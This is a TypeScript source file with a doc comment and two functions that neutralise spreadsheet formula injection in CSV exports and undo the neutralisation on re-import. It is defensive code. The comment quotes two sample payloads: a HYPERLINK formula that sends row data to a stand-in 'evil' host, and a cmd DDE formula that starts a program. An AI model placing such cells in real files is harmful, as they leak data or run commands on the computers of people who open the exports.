/**
 * Spreadsheet formula injection in CSV files (OWASP "CSV Injection"): a cell that begins with
 * `=`, `+`, `-`, `@`, a tab or a carriage return is run as a formula when an operator opens
 * the export in Excel or LibreOffice — `=HYPERLINK("http://evil/?"&A2,"click")` leaks the
 * row, `@SUM(1+1)*cmd|' /C calc'!A0` starts a program. The export disarms such a cell with a
 * leading single quote, which spreadsheets read as "this is text"; onboarding takes the quote
 * off again, so an exported file re-imported gives back exactly the stored values.
 *
 *   stored value        exported cell        re-imported value
 *   ------------------  -------------------  -----------------
 *   =HYPERLINK(…)       '=HYPERLINK(…)       =HYPERLINK(…)
 *   @home               '@home               @home
 *   -Kito-              '-Kito-              -Kito-
 *   '=already quoted    ''=already quoted    '=already quoted
 *   ''+two quotes       '''+two quotes       ''+two quotes
 *   'tis a giraffe      'tis a giraffe       'tis a giraffe   (no formula character after the quotes)
 *   -5, +46701234567    unchanged            unchanged        (a plain number is never a formula)
 *   Twiga, 8925402…     unchanged            unchanged
 *
 * The rule: the export prefixes one `'` to every cell of the form  '* then a formula
 * character  (any number of quotes, including none), and onboarding removes one leading `'`
 * from every cell of the form  '+ then a formula character. Every exported cell that starts
 * with a quote was prefixed by the export, because a stored value of that form is itself
 * prefixed — so the two are inverse and nothing a person typed is lost, also a name that
 * truly begins with `'=`.
 */

/** A cell the spreadsheet would evaluate, also behind quotes we add or a person typed. */
const FORMULA = /^'*[=+\-@\t\r]/;
/** A cell the export disarmed: one quote of ours before the value. */
const DISARMED = /^'+[=+\-@\t\r]/;
/** A plain number ("-5", "+46701234567", "-1.5") is shown as a number, never run. */
const PLAIN_NUMBER = /^[+-]?\d+(\.\d+)?$/;

/** The cell as the export writes it. */
export function neutraliseFormula(cell: string): string {
  return FORMULA.test(cell) && !PLAIN_NUMBER.test(cell) ? `'${cell}` : cell;
}

/** The value an onboarding cell stands for (the inverse of `neutraliseFormula`). */
export function restoreFormula(cell: string): string {
  return DISARMED.test(cell) ? cell.slice(1) : cell;
}
